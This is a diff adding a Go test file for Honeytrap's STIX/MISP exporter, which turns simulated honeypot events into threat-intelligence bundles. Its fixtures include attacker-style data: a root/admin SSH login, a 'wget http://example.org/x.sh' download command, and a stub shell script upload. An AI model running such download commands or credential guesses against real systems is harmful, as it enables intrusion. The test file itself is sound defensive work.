@@ -0,0 +1,324 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package stix
+
+import (
+	"bufio"
+	"crypto/sha256"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/BurntSushi/toml"
+	"github.com/honeytrap/honeytrap/event"
+	"github.com/honeytrap/honeytrap/pushers"
+)
+
+var (
+	attacker = &net.TCPAddr{IP: net.ParseIP("10.0.0.1"), Port: 1234}
+)
+
+func testEvents() []event.Event {
+	return []event.Event{
+		event.New(
+			event.Category("ssh"),
+			event.Type("password-authentication"),
+			event.SourceAddr(attacker),
+			event.Custom("ssh.sessionid", "session-1"),
+			event.Custom("ssh.username", "root"),
+			event.Custom("ssh.password", "admin"),
+		),
+		event.New(
+			event.Category("ssh"),
+			event.Type("session-request"),
+			event.SourceAddr(attacker),
+			event.Custom("ssh.sessionid", "session-1"),
+			event.Custom("ssh.command", "wget http://example.org/x.sh"),
+		),
+		event.New(
+			event.Category("tftp"),
+			event.Type("write"),
+			event.SourceAddr(attacker),
+			event.Custom("tftp.filename", "x.sh"),
+			event.Custom("tftp.file", []byte("#!/bin/sh\n")),
+		),
+		event.New(
+			event.Category("http"),
+			event.SourceAddr(attacker),
+			event.Custom("http.host", "example.org"),
+			event.Custom("http.url", "/cgi-bin/test.cgi"),
+			event.Custom("http.user-agent", "curl/7.0"),
+		),
+	}
+}
+
+func objectsByType(bundle *Bundle) map[string][]Object {
+	objects := map[string][]Object{}
+	for _, o := range bundle.Objects {
+		typ := o["type"].(string)
+		objects[typ] = append(objects[typ], o)
+	}
+
+	return objects
+}
+
+func TestAggregateBundle(t *testing.T) {
+	now := time.Now()
+
+	ag := newAggregator("attacker")
+	for _, e := range testEvents() {
+		ag.Add(e, now)
+	}
+
+	if activities := ag.Flush(now, time.Minute); len(activities) != 0 {
+		t.Fatalf("Expected no activities before window passed, got %d", len(activities))
+	}
+
+	activities := ag.Flush(now.Add(time.Minute), time.Minute)
+	if len(activities) != 1 {
+		t.Fatalf("Expected 1 activity, got %d", len(activities))
+	}
+
+	a := activities[0]
+	if a.Count != 4 {
+		t.Errorf("Expected 4 events, got %d", a.Count)
+	}
+
+	b := newBundler("Honeytrap", now)
+	bundle := b.Bundle(a, a.SortedIndicators(), now)
+
+	objects := objectsByType(bundle)
+
+	patterns := map[string]bool{}
+	for _, o := range objects["indicator"] {
+		patterns[o["pattern"].(string)] = true
+	}
+
+	for _, expected := range []string{
+		"[ipv4-addr:value = '10.0.0.1']",
+		"[url:value = 'http://example.org/cgi-bin/test.cgi']",
+		fmt.Sprintf("[file:hashes.'SHA-256' = '%x']", sha256.Sum256([]byte("#!/bin/sh\n"))),
+	} {
+		if !patterns[expected] {
+			t.Errorf("Expected indicator with pattern %s, got %v", expected, patterns)
+		}
+	}
+
+	if len(objects["malware"]) != 1 || objects["malware"][0]["name"] != "x.sh" {
+		t.Errorf("Expected malware sample x.sh, got %v", objects["malware"])
+	}
+
+	techniques := map[string]bool{}
+	for _, o := range objects["attack-pattern"] {
+		techniques[o["name"].(string)] = true
+	}
+
+	for _, expected := range []string{"Active Scanning", "Brute Force", "Command and Scripting Interpreter", "Ingress Tool Transfer"} {
+		if !techniques[expected] {
+			t.Errorf("Expected attack pattern %s, got %v", expected, techniques)
+		}
+	}
+
+	if len(objects["user-account"]) != 1 || objects["user-account"][0]["account_login"] != "root" {
+		t.Errorf("Expected user account root, got %v", objects["user-account"])
+	}
+
+	if len(objects["observed-data"]) != 1 {
+		t.Fatalf("Expected observed data, got %v", objects["observed-data"])
+	}
+
+	// all references should be resolvable within the bundle
+	ids := map[string]bool{}
+	for _, o := range bundle.Objects {
+		ids[o.ID()] = true
+	}
+
+	for _, o := range bundle.Objects {
+		refs := []string{}
+
+		for _, key := range []string{"created_by_ref", "source_ref", "target_ref"} {
+			if v, ok := o[key].(string); ok {
+				refs = append(refs, v)
+			}
+		}
+
+		for _, key := range []string{"object_refs", "sample_refs"} {
+			if v, ok := o[key].([]string); ok {
+				refs = append(refs, v...)
+			}
+		}
+
+		for _, ref := range refs {
+			if !ids[ref] {
+				t.Errorf("Reference %s of %s not found in bundle", ref, o.ID())
+			}
+		}
+	}
+}
+
+func TestAggregateSession(t *testing.T) {
+	now := time.Now()
+
+	ag := newAggregator("session")
+	for _, e := range testEvents() {
+		ag.Add(e, now)
+	}
+
+	// both ssh events share the session, tftp and http are keyed on the source port
+	if activities := ag.Flush(now, 0); len(activities) != 2 {
+		t.Errorf("Expected 2 activities, got %d", len(activities))
+	}
+}
+
+func TestDeduplicate(t *testing.T) {
+	now := time.Now()
+
+	d := newDeduplicator(time.Hour)
+
+	indicators := []Indicator{
+		{Kind: KindIPv4, Value: "10.0.0.1"},
+	}
+
+	if filtered := d.Filter(indicators, now); len(filtered) != 1 {
+		t.Errorf("Expected indicator to be exported, got %v", filtered)
+	}
+
+	if filtered := d.Filter(indicators, now.Add(time.Minute)); len(filtered) != 0 {
+		t.Errorf("Expected indicator to be deduplicated, got %v", filtered)
+	}
+
+	if filtered := d.Filter(indicators, now.Add(time.Hour*2)); len(filtered) != 1 {
+		t.Errorf("Expected indicator to be exported after window, got %v", filtered)
+	}
+}
+
+func TestPattern(t *testing.T) {
+	p := pattern(Indicator{Kind: KindURL, Value: `http://example.org/?q='\`})
+	if p != `[url:value = 'http://example.org/?q=\'\\']` {
+		t.Errorf("Unexpected pattern %s", p)
+	}
+}
+
+func TestBackend(t *testing.T) {
+	mispEvents := make(chan map[string]mispEvent, 10)
+
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/events/add" || r.Header.Get("Authorization") != "secret" {
+			w.WriteHeader(http.StatusForbidden)
+			return
+		}
+
+		v := map[string]mispEvent{}
+		if err := json.NewDecoder(r.Body).Decode(&v); err != nil {
+			w.WriteHeader(http.StatusBadRequest)
+			return
+		}
+
+		mispEvents <- v
+	}))
+	defer ts.Close()
+
+	dir, err := ioutil.TempDir("", "stix")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	filename := filepath.Join(dir, "bundles.json")
+
+	s := struct {
+		P toml.Primitive
+	}{}
+
+	md, err := toml.Decode(fmt.Sprintf(`
+[P]
+filename=%q
+window="10ms"
+
+[P.misp]
+url=%q
+key="secret"
+tags=["honeytrap"]
+`, filename, ts.URL), &s)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	c, err := New(pushers.WithConfig(s.P, &md))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, e := range testEvents() {
+		c.Send(e)
+	}
+
+	select {
+	case v := <-mispEvents:
+		e := v["Event"]
+
+		if e.Info != "Honeytrap: activity from 10.0.0.1" {
+			t.Errorf("Unexpected info %s", e.Info)
+		}
+
+		types := map[string]string{}
+		for _, attr := range e.Attribute {
+			types[attr.Type] = attr.Value
+		}
+
+		if types["ip-src"] != "10.0.0.1" {
+			t.Errorf("Expected ip-src attribute, got %v", types)
+		}
+
+		if !strings.HasPrefix(types["filename|sha256"], "x.sh|") {
+			t.Errorf("Expected filename|sha256 attribute, got %v", types)
+		}
+
+		if len(e.Tag) != 1 || e.Tag[0].Name != "honeytrap" {
+			t.Errorf("Expected honeytrap tag, got %v", e.Tag)
+		}
+	case <-time.After(time.Second * 5):
+		t.Fatal("Timeout waiting for MISP event")
+	}
+
+	f, err := os.Open(filename)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer f.Close()
+
+	scanner := bufio.NewScanner(f)
+	if !scanner.Scan() {
+		t.Fatal("Expected bundle to be written")
+	}
+
+	bundle := map[string]interface{}{}
+	if err := json.Unmarshal(scanner.Bytes(), &bundle); err != nil {
+		t.Fatal(err)
+	}
+
+	if bundle["type"] != "bundle" {
+		t.Errorf("Expected bundle, got %v", bundle["type"])
+	}
+}